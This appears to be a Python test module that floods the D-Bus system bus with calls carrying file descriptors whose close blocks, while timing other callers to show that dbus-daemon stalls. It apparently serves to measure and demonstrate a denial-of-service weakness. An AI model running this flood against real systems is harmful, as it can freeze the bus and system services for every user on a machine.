"""A call over the system bus has a descriptor whose close waits, and stops event loop and bus.

The same with a file in a file system that never answers, which not even SIGKILL would end: what decides is whether a
descriptor arrives at all. dbus-daemon itself closes undelivered descriptors, and all programs on the bus wait for it: a
call of the bus's own shows how long.
"""

import time

from bus import GEOCLUE, MANAGER, PEER, Program, geoclue_front
from callers import LIMIT_MILLISECONDS, Caller, Control, judge
from lingering import Lingering, listener

MEASURES_TIMES = True
SECONDS = 5


class BusCaller(Caller):
    """Calls a name on the bus."""

    def __init__(self, path, destination):
        super().__init__(f"Ping of {destination}")
        self.program = Program(path)
        self.destination = destination

    def make_call(self):
        self.program.call(self.destination, "/org/freedesktop/DBus", PEER, "Ping")


def flood(path, end):
    """Sends descriptors until `end`. Returns the number of calls with one, and of those that were not delivered."""
    sent = undelivered = 0
    with listener() as listening:
        others = []
        program = Program(path)
        while time.monotonic() < end:
            lingering = Lingering(listening)
            others = others[-100:] + [lingering.other]
            serial = program.send(
                GEOCLUE, MANAGER, PEER, "Ping", "h", b"\0\0\0\0", [lingering.socket.fileno()])
            lingering.close()
            sent += 1
            undelivered += program.answer(serial)[1] == "org.freedesktop.DBus.Error.NotSupported"
    return sent, undelivered


def attack(programs):
    with geoclue_front(programs) as (bus, daemon, _):
        callers = [Caller.of(daemon.location, "org.varlink.service.GetInfo"), Control(),
                   BusCaller(bus.path, GEOCLUE), BusCaller(bus.path, "org.freedesktop.DBus")]
        for caller in callers:
            caller.start()
        sent, undelivered = flood(bus.path, time.monotonic() + SECONDS)
        for caller in callers:
            caller.stop()
        worst, _ = judge(callers)
        _, fault = judge(callers[:2])
        served, bus_itself = (caller.worst for caller in callers[2:])
        if served > bus_itself + LIMIT_MILLISECONDS + callers[1].worst:
            fault = fault or f"late: {worst}"
        fault = fault or daemon.stop()
        return f"{undelivered} of {sent} calls with a descriptor were not delivered; others' worst: {worst}", fault
